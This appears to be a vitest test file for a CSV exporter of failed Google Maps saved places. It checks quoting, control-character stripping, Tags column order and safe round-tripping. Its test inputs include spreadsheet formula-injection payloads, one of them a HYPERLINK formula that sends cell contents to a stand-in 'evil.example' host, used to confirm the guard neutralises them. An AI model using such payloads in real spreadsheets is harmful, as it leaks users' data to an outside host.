import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { hostileText, xmlLineEnds } from '../../test/read-formats.js';
import { buildFailedCsv, failedCsvColumns } from './failed-csv.js';
import type { ParsedPlace } from './types.js';
import { stripForbiddenXmlChars } from './xml.js';
import { parseSavedPlacesCsv } from './csv.js';
import { inspectArchive, inspectCsv } from '../library.js';
import { strToU8, zipSync } from 'fflate';

describe('buildFailedCsv', () => {
  it('writes Title, Note, URL, Comment, then the Reason in words, quoting as needed', () => {
    const csv = buildFailedCsv([
      { title: 'A, "B"', note: 'two\nlines', url: 'https://x', comment: 'c', reason: 'not_found' },
      { title: 'T', url: 'https://y', reason: 'throttled' },
    ]);
    const rows = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
    expect(rows).toEqual([
      ['Title', 'Note', 'URL', 'Comment', 'Reason'],
      ['A, "B"', 'two\nlines', 'https://x', 'c', 'Google has no location for this place'],
      ['T', '', 'https://y', '', 'Google refused the lookup; try again later'],
    ]);
  });

  it.each([
    '=SUM(A1)',
    '+1',
    '-1',
    '@cmd',
    '\tx',
    '\rx',
    '=HYPERLINK("http://evil.example/?"&A1,"click")\nsecond line',
    '- item\r\n- item',
    '@SUM(1)\ny',
    '\n=cmd',
  ])('neutralises the formula %j, its line breaks written as LF', (cell) => {
    const csv = buildFailedCsv([{ title: 'T', note: cell, url: 'u' }]);
    const rows = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data;
    expect(rows[1]?.[1]).toBe(`'${xmlLineEnds(cell)}`);
  });

  it('writes a title and a link trimmed, as they are read: one starting with a formula is guarded', () => {
    const csv = buildFailedCsv([{ title: '\t=SUM(A1) ', url: ' \r-u' }]);
    const rows = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data;
    expect(rows[1]?.slice(0, 3)).toEqual(["'=SUM(A1)", '', "'-u"]);
  });

  it('drops the control characters XML 1.0 forbids, which stop CSV readers, and keeps tab and line breaks', () => {
    const csv = buildFailedCsv([
      {
        title: 'nul\u0000 ctl\u0001\u000b end',
        note: 'note\u001f\tand\r\nmore\uFFFE',
        url: 'https://www.google.com/maps/place/x\u0000',
        comment: 'lone \uD800 surrogate',
        tags: ['a\u0007'],
      },
    ]);
    // eslint-disable-next-line no-control-regex -- the test is about control characters
    expect(csv).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uD800]/);
    const rows = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data;
    expect(rows[1]).toEqual([
      'nul ctl end',
      'note\tand\nmore',
      'https://www.google.com/maps/place/x',
      'a',
      'lone  surrogate',
      '',
    ]);
  });

  it("gives back a place's own text that starts with ' before a formula character", () => {
    const own = ["'=literal", "''+two", "'plain", '=formula'];
    const csv = buildFailedCsv(own.map((title) => ({ title, url: 'https://x', note: title })));
    const { parsed } = inspectCsv(csv, 'L - failed-places.csv').lists[0]!;
    if (parsed instanceof Error) throw parsed;
    expect(parsed.places.map((place) => [place.title, place.note])).toEqual(
      own.map((text) => [text, text]),
    );
  });

  it('gives back the places of failed-places CSVs read among the lists of an archive or a folder, guards off', () => {
    const own = ['-Caf\u00e9', '+39 Pizzeria', '@home', '=1+1', "'=literal"];
    const failed = buildFailedCsv(own.map((title) => ({ title, url: 'https://x', note: title })));
    // A list of Google's own with a title starting so: nobody guarded it, it stays as it is.
    const google = `Title,Note,URL\n'-Mine,,https://x\n`;
    const { lists } = inspectArchive(
      zipSync({
        'Saved/Food - failed-places.csv': strToU8(failed),
        'Saved/Mine.csv': strToU8(google),
      }),
    );
    const titles = (name: string) => {
      const { parsed } = lists.find((list) => list.name === name)!;
      if (parsed instanceof Error) throw parsed;
      return parsed.places.map((place) => [place.title, place.note ?? '']);
    };
    expect(titles('Food - failed-places')).toEqual(own.map((text) => [text, text]));
    expect(titles('Mine')).toEqual([["'-Mine", '']]);
  });

  /** A place as reading any list gives it: line breaks as LF, Title and URL trimmed, no forbidden character. */
  const asRead = (place: ParsedPlace) => {
    const text = (value: string | undefined) => xmlLineEnds(stripForbiddenXmlChars(value ?? ''));
    return {
      title: text(place.title).trim(),
      url: text(place.url).trim(),
      note: text(place.note) || undefined,
      comment: text(place.comment) || undefined,
    };
  };
  /** The places of a failed-places CSV given back to the converter (`inspectCsv`, as a retry). */
  const readBack = (csv: string) => {
    const { parsed } = inspectCsv(csv, 'L - failed-places.csv').lists[0]!;
    if (parsed instanceof Error) throw parsed;
    return parsed.places.map(({ title, url, note, comment }) => ({ title, url, note, comment }));
  };
  const URL = 'https://www.google.com/maps/place/x';

  it.each(["'\t", "'\r", "'\r\n", '\rx', "'\rx", "''\r=x", ' =x', "'=quoted", "'t Hoekje"])(
    'gives back %j, which starts with a quote, a tab or a CR, as the converter reads it',
    (text) => {
      const place = {
        title: text,
        note: text,
        comment: `${text}\n`,
        url: URL,
        reason: 'not_found' as const,
      };
      expect(readBack(buildFailedCsv([place]))).toEqual([asRead(place)]);
    },
  );

  it('gives back every title, note, comment and link as the converter reads it (property)', () => {
    fc.assert(
      fc.property(
        hostileText,
        hostileText,
        hostileText,
        hostileText,
        (title, note, comment, url) => {
          const place = { title, note, comment, url: `${url}${URL}`, reason: 'limit' as const };
          expect(readBack(buildFailedCsv([place]))).toEqual([asRead(place)]);
        },
      ),
      { numRuns: 500 },
    );
  });

  it("leaves a saved list's own text alone: only a failed-places CSV (with its Reason column) has guards", () => {
    const own = `Title,Note,URL\n'=literal,'+1,${URL}\n`;
    const { parsed } = inspectCsv(own, 'Want to go.csv').lists[0]!;
    if (parsed instanceof Error) throw parsed;
    expect(parsed.places.map((place) => [place.title, place.note])).toEqual([["'=literal", "'+1"]]);
  });

  it('can be uploaded again: the converter reads it back', () => {
    const csv = buildFailedCsv([
      { title: 'Café', note: 'n', url: 'https://www.google.com/maps/place/x', comment: 'c' },
    ]);
    expect(parseSavedPlacesCsv(csv).places).toEqual([
      { title: 'Café', note: 'n', url: 'https://www.google.com/maps/place/x', comment: 'c' },
    ]);
  });

  const tagged = {
    title: 'Noodles',
    url: 'https://www.google.com/maps/place/x',
    tags: ['🍜 Food', 'Late'],
  };
  const untagged = { title: 'T', url: 'u' };

  it.each([
    // The 2025+ header: Tags where it was, among the seed's columns.
    ['Title,Note,URL,Tags,Comment', [tagged], 'Title,Note,URL,Tags,Comment,Reason'],
    [' tags ,Title,URL', [tagged], 'Tags,Title,Note,URL,Comment,Reason'],
    ['Title,Note,URL,Comment,Tags', [tagged], 'Title,Note,URL,Comment,Tags,Reason'],
    // A Tags column is kept even when these places have none.
    ['Title,Note,URL,Tags,Comment', [untagged], 'Title,Note,URL,Tags,Comment,Reason'],
    ['Title,Note,URL,Comment', [untagged], 'Title,Note,URL,Comment,Reason'],
    // Tags without a known header (a retry list) go before Comment, as Takeout writes them.
    ['', [tagged], 'Title,Note,URL,Tags,Comment,Reason'],
  ])('keeps the Tags column where the list (%j) had it', (header, places, columns) => {
    expect(failedCsvColumns(places, header ? header.split(',') : []).join(',')).toBe(columns);
  });

  it('gives the tags back to the converter, so a retried place keeps them', () => {
    const csv = buildFailedCsv(
      [{ ...tagged, tags: ['=cmd', 'Late'] }],
      ['Title', 'Note', 'URL', 'Tags', 'Comment'],
    );
    const back = parseSavedPlacesCsv(csv).places[0];
    // The spreadsheet guard is on the cell; the converter reads the tags back (the CLI takes the guard off).
    expect(back?.tags).toEqual(["'=cmd", 'Late']);
    expect(
      parseSavedPlacesCsv(buildFailedCsv([tagged], ['Title', 'Note', 'URL', 'Tags', 'Comment']))
        .places[0]?.tags,
    ).toEqual(['🍜 Food', 'Late']);
  });
});
